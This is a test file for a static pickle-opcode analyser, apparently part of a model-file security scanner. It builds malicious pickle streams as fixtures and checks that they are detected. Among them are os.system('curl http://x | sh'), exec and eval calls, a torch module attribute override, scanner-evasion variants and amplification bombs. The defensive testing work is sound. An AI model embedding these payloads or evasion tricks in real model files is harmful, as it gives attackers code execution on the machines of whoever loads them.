import { memoryFile, pickle, concatBytes } from "@modelward/testing";
import { describe, expect, it } from "vitest";
import { runPickle } from "./vm.js";

const run = (bytes: Uint8Array, opts = {}) => runPickle(memoryFile("x.pkl", bytes), opts);
const names = (r: Awaited<ReturnType<typeof run>>) => r.globals.map((g) => `${g.module}.${g.name}`);

describe("pickle VM", () => {
  it("resolves STACK_GLOBAL + REDUCE and renders the call with its offset", async () => {
    const b = pickle().proto(4).callStr("os", "system", "curl http://x | sh").stop().toBytes();
    const r = await run(b);
    expect(names(r)).toEqual(["os.system"]);
    expect(r.calls[0]!.expression).toBe("os.system('curl http://x | sh')");
    expect(r.calls[0]!.offset).toBe(b.indexOf(0x52));
    expect(r.streams).toHaveLength(1);
    expect(r.streams[0]!.protocol).toBe(4);
    expect(r.errors).toEqual([]);
  });

  it("P1: STACK_GLOBAL operands at opcode #0 (no PROTO)", async () => {
    const r = await run(pickle().shortBinUnicode("os").shortBinUnicode("system").stackGlobal().stop().toBytes());
    expect(names(r)).toEqual(["os.system"]);
  });

  it("P2: STACK_GLOBAL fed by STRING/BINSTRING operands", async () => {
    const r = await run(pickle().string("'os'").shortBinString("system").stackGlobal().stop().toBytes());
    expect(names(r)).toEqual(["os.system"]);
  });

  it("P5/P6: memo written after POP resolves what the real VM sees", async () => {
    const b = pickle().proto(4).shortBinUnicode("posix").memoize().shortBinUnicode("junk").pop().memoize()
      .shortBinUnicode("system").memoize().get(0).get(2).stackGlobal().stop().toBytes();
    const r = await run(b);
    expect(names(r)).toEqual(["posix.system"]);
  });

  it("P7: INT in base 0 (I0x10) is parsed like strtol and the payload is reached", async () => {
    const b = pickle().int("0x10").pop().global("posix", "system").string("'id'").tupleN(1).reduce().stop().toBytes();
    const r = await run(b);
    expect(r.errors).toEqual([]);
    expect(r.calls[0]!.expression).toBe("posix.system('id')");
  });

  it("P3: a memo hole after the payload is an error but the payload is still recorded", async () => {
    const b = pickle().proto(2).global("os", "system").shortBinUnicode("id").tupleN(1).reduce().pop().get(7).stop().toBytes();
    const r = await run(b);
    expect(r.calls.map((c) => c.expression)).toEqual(["os.system('id')"]);
    expect(r.errors[0]!.kind).toBe("memo-missing");
  });

  it("P4: an int as STACK_GLOBAL module is a type error, not a crash", async () => {
    const b = pickle().proto(4).binInt(42).shortBinUnicode("os").stackGlobal().stop().toBytes();
    const r = await run(b);
    expect(r.errors[0]!.kind).toBe("type-error");
  });

  it("P8: BINBYTES that straddles a FRAME is parsed linearly like the C unpickler", async () => {
    const inner = pickle().callStr("os", "system", "echo x").pop().toBytes();
    const b = pickle().proto(4).frame(4).bytes(new Uint8Array(0), "4").raw(inner).none().stop().toBytes();
    const r = await run(b);
    expect(names(r)).toEqual(["os.system"]);
  });

  it("P10: concatenated pickles and junk between streams are all analysed", async () => {
    const first = pickle().proto(4).emptyDict().stop().toBytes();
    const second = pickle().proto(4).callStr("builtins", "eval", "1+1").stop().toBytes();
    const r = await run(concatBytes(first, new TextEncoder().encode("\x00\x01junk!"), second));
    expect(names(r)).toEqual(["builtins.eval"]);
    expect(r.streams.length).toBeGreaterThanOrEqual(2);
    expect(r.errors.some((e) => e.kind === "trailing-data")).toBe(true);
  });

  it("P11: a broken stream after the payload keeps the payload", async () => {
    const b = pickle().global("builtins", "exec").string("'print(1)'").tupleN(1).reduce().raw([0x58, 0xff, 0xff, 0xff, 0x7f]).toBytes();
    const r = await run(b);
    expect(r.calls[0]!.expression).toBe("builtins.exec('print(1)')");
    expect(r.errors.some((e) => e.kind === "truncated")).toBe(true);
  });

  it("P12: an OBJ call whose result is popped is still recorded", async () => {
    const b = pickle().proto(4).mark().stackGlobalOf("smtplib", "SMTP").shortBinUnicode("127.0.0.1").obj().pop().none().stop().toBytes();
    const r = await run(b);
    expect(r.calls[0]!.expression).toBe("smtplib.SMTP('127.0.0.1')");
  });

  it("INST and protocol-2 name mapping (__builtin__ -> builtins)", async () => {
    const b = pickle().mark().string("'ls'").inst("__builtin__", "exec").stop().toBytes();
    const r = await run(b);
    expect(r.globals[0]).toMatchObject({ module: "builtins", name: "exec", writtenModule: "__builtin__", opcode: "INST" });
    expect(r.calls[0]!.kind).toBe("inst");
  });

  it("dynamic STACK_GLOBAL operands (computed at load time) are recorded unresolved", async () => {
    const b = pickle().proto(4).callStr("builtins", "str", "os").shortBinUnicode("system").stackGlobal().stop().toBytes();
    const r = await run(b);
    expect(r.globals[1]).toMatchObject({ resolved: false });
  });

  it("BUILD on an imported module is flagged (module attribute override)", async () => {
    const b = pickle().proto(4).stackGlobalOf("torch", "_utils").none().emptyDict().shortBinUnicode("_rebuild_tensor")
      .stackGlobalOf("builtins", "eval").setItem().tupleN(2).buildOp().stop().toBytes();
    const r = await run(b);
    expect(r.calls.find((c) => c.kind === "build")?.onGlobal).toBe(true);
  });

  it("EXT codes, persistent ids and out-of-band buffers are counted", async () => {
    const b = pickle().proto(5).ext(7).pop().shortBinUnicode("k").binPersId().pop().nextBuffer().readonlyBuffer().stop().toBytes();
    const seen: unknown[] = [];
    const r = await run(b, { persistentLoad: (pid: unknown) => void seen.push(pid) });
    expect(r.extensions).toEqual([{ code: 7, offset: 2 }]);
    expect(r.persistentIds).toBe(1);
    expect(seen).toEqual(["k"]);
    expect(r.outOfBandBuffers).toBe(1);
  });

  it("skips large BINBYTES without reading them", async () => {
    const size = 8 * 1024 * 1024;
    const b = concatBytes(pickle().proto(4).binBytes8Header(size).toBytes(), new Uint8Array(size), pickle().stop().toBytes());
    let read = 0;
    const f = memoryFile("big.pkl", b, { onRead: (s, e) => void (read += e - s) });
    const r = await runPickle(f, { chunkSize: 64 * 1024 });
    expect(r.errors).toEqual([]);
    expect(read).toBeLessThan(512 * 1024);
    expect(r.bytesSkipped).toBeGreaterThan(size - 512 * 1024);
  });

  it("detects DUP/GET amplification through logical size", async () => {
    const b = pickle().proto(4).emptyList().put(0);
    for (let level = 1; level < 30; level++) b.mark().get(level - 1).get(level - 1).list().put(level);
    const r = await run(b.stop().toBytes());
    expect(r.expansion.maxWeight).toBeGreaterThan(1e8);
  });

  it("stops at the opcode limit and reports it", async () => {
    const b = pickle().proto(4).emptyList().mark();
    for (let k = 0; k < 1000; k++) b.binInt(1);
    const r = await run(b.appends().stop().toBytes(), { limits: { maxOpcodes: 100 } });
    expect(r.limitsHit[0]!.limit).toBe("maxOpcodes");
  });

  it("invalid UTF-8 in a GLOBAL name is an error, not a global (not-a-pickle)", async () => {
    const r = await run(new Uint8Array([0x63, 0x6d, 0x6f, 0x64, 0x0a, 0xf8, 0x0a]));
    expect(r.globals).toEqual([]);
    expect(r.errors.length).toBeGreaterThan(0);
  });

  it("records a pickle passed to pickle.loads and one embedded as base64", async () => {
    const inner = pickle().proto(4).callStr("os", "system", "id").stop().toBytes();
    const b64 = Buffer.from(inner).toString("base64");
    const b = pickle().proto(4).stackGlobalOf("pickle", "loads").bytes(inner).tupleN(1).reduce().pop()
      .binUnicode(b64).stop().toBytes();
    const r = await run(b);
    expect(r.embedded.map((e) => [e.encoding, e.loaderCall !== undefined])).toEqual([["raw", false], ["raw", true], ["base64", false]]);
  });
});
